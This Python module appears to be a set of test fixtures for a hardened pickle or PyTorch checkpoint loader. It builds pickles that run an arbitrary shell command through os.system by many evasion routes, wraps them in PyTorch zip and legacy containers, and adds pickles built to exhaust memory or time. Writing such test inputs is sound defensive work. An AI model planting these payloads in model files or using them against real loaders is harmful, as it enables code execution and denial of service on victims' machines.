"""Pickles that would run code, use up memory or never end, and containers to put them in."""

from __future__ import annotations

import io
import os
import pickle
import struct
import zipfile
from collections.abc import Callable

import torch


class Calls:
    """Pickles as `function(*arguments)`."""

    def __init__(self, function: Callable[..., object], *arguments: object) -> None:
        self.function, self.arguments = function, arguments

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
        return self.function, self.arguments


def text(value: str) -> bytes:
    """SHORT_BINUNICODE, or its long form."""
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def stack_global(module: str, name: str) -> bytes:
    return text(module) + text(name) + b"\x93"


def running(command: str) -> dict[str, bytes]:
    """Pickles that run a shell command, each by its own way, when Python's own unpickler reads them."""
    call = text(command) + b"\x85R."
    system = stack_global("os", "system")
    return {
        **{f"reduce, protocol {p}": pickle.dumps(Calls(os.system, command), protocol=p) for p in range(6)},
        "eval": pickle.dumps(Calls(eval, f"__import__('os').system({command!r})")),
        "exec": pickle.dumps(Calls(exec, f"import os; os.system({command!r})")),
        "inside a dict": pickle.dumps({"g_ema": {"w": Calls(os.system, command)}}),
        "getattr chain": b"\x80\x04"
        + stack_global("builtins", "getattr")
        + stack_global("builtins", "__import__")
        + text("os")
        + b"\x85R"
        + text("system")
        + b"\x86R"
        + call,
        "dotted name": b"\x80\x04" + stack_global("shutil", "os.system") + call,
        "names from the memo": b"\x80\x04"
        + text("os")
        + b"\x94"
        + text("system")
        + b"\x940h\x000h\x000"
        + b"h\x00h\x01\x93"
        + call,
        "global in a memo": b"\x80\x04" + system + b"\x94N0" + b"h\x00" + call,
        "old instance": b"\x80\x04(" + text(command) + b"ios\nsystem\n.",
        "old object": b"\x80\x04(" + system + text(command) + b"o.",
        "partial": b"\x80\x04" + stack_global("functools", "partial") + system + text(command) + b"\x86R)R.",
        "loads in a pickle": pickle.dumps(Calls(pickle.loads, pickle.dumps(Calls(os.system, command)))),
        "torch.load in a pickle": pickle.dumps(
            Calls(torch.storage._load_from_bytes, legacy(pickle.dumps(Calls(os.system, command), protocol=2)))
        ),
        "state that is set": b"\x80\x04"
        + stack_global("builtins", "map")
        + system
        + b"("
        + text(command)
        + b"l\x86\x81"
        + b"\x94"
        + stack_global("builtins", "list")
        + b"h\x00\x85R.",
    }


def legacy(main: bytes, keys: bytes = pickle.dumps([], protocol=2), data: bytes = b"") -> bytes:
    """A container of before PyTorch 1.6 around a pickle."""
    head = [0x1950A86A20F9469CFC6C, 1001, {"little_endian": True, "protocol_version": 1001, "type_sizes": {}}]
    return b"".join(pickle.dumps(part, protocol=2) for part in head) + main + keys + data


def archive(main: bytes, storages: dict[str, bytes] | None = None, *, method: int = zipfile.ZIP_STORED) -> bytes:
    """A zip archive as PyTorch writes it around a pickle."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as packed:
        packed.writestr("archive/data.pkl", main)
        for key, data in (storages or {}).items():
            packed.writestr(f"archive/data/{key}", data)
    return file.getvalue()


def storage_id(count: int, *, kind: str = "FloatStorage", key: str = "0") -> bytes:
    """Instructions that leave a storage of so many elements on the stack."""
    return (
        b"("
        + text("storage")
        + f"ctorch\n{kind}\n".encode()
        + text(key)
        + text("cpu")
        + b"\x8a\x08"
        + struct.pack("<q", count)
        + b"tQ"
    )


def tensor(count: int, offset: int, shape: tuple[int, ...], stride: tuple[int, ...]) -> bytes:
    """A pickle of a dict with one tensor "x"."""

    def number(value: int) -> bytes:
        return b"\x8a\x09" + value.to_bytes(9, "little", signed=True)

    def numbers(values: tuple[int, ...]) -> bytes:
        return b"(" + b"".join(number(value) for value in values) + b"t"

    call = b"(" + storage_id(count) + number(offset) + numbers(shape) + numbers(stride) + b"\x89}tR"
    return b"\x80\x02}" + text("x") + b"ctorch._utils\n_rebuild_tensor_v2\n" + call + b"s."


def exhausting() -> dict[str, bytes]:
    """Pickles without calls that would take memory or time beyond all measure."""
    nested = b"\x80\x04" + text("x") + b"\x94" + b"".join(b"h%c2\x86\x94" % i for i in range(60))
    return {
        "boxes": b"\x80\x04(" + b"]" * 900_000 + b"l.",
        "dicts in the memo": b"\x80\x04(" + b"}\x94" * 400_000 + b"l.",
        "key of nested tuples": b"\x80\x04}" + b")" + b"2\x86" * 40 + b"Ns.",
        "tuples of tuples": nested + b".",
        "deep lists": b"\x80\x04" + b"]" * 200_000 + b"a" * 199_999 + b".",
        "deep tuples": b"\x80\x04N" + b"\x85" * 200_000 + b".",
        "memo far away": b"\x80\x04Nr\xff\xff\xff\xff.",
        "declared bytes": b"\x80\x04\x8e" + struct.pack("<Q", 2**62) + b".",
        "declared text": b"\x80\x04\x8d" + struct.pack("<Q", 2**40) + b".",
        "negative length": b"\x80\x04T\xff\xff\xff\xff.",
        "a number without end": b"\x80\x04\x8b\xff\xff\xff\x7f" + b"1" * 2000 + b".",
        "digits": b"\x80\x04L" + b"9" * 100_000 + b"L\n.",
        "colliding keys": b"\x80\x04}("
        + b"".join(b"\x8a\x0a" + ((2**61 - 1) * n).to_bytes(10, "little") + b"N" for n in range(1, 60_000))
        + b"u.",
        "shapes again and again": b"\x80\x04("
        + b"K\x01" * 20_000
        + b"l\x94ctorch\nSize\n\x940("
        + b"h\x01h\x00\x85R" * 20_000
        + b"l.",
        "sets again and again": b"\x80\x04("
        + b"".join(b"J" + struct.pack("<i", n) for n in range(20_000))
        + b"l\x94cbuiltins\nset\n\x940("
        + b"h\x01h\x00\x85R" * 20_000
        + b"l.",
        "wide text": b"\x80\x04X" + struct.pack("<I", 2**22 + 4) + b"a" * 2**22 + "\U0001f600".encode() + b".",
        "endless instructions": b"\x80\x04" + b"N0" * 550_000 + b".",
        "marks": b"\x80\x04" + b"(" * 900_000 + b".",
    }
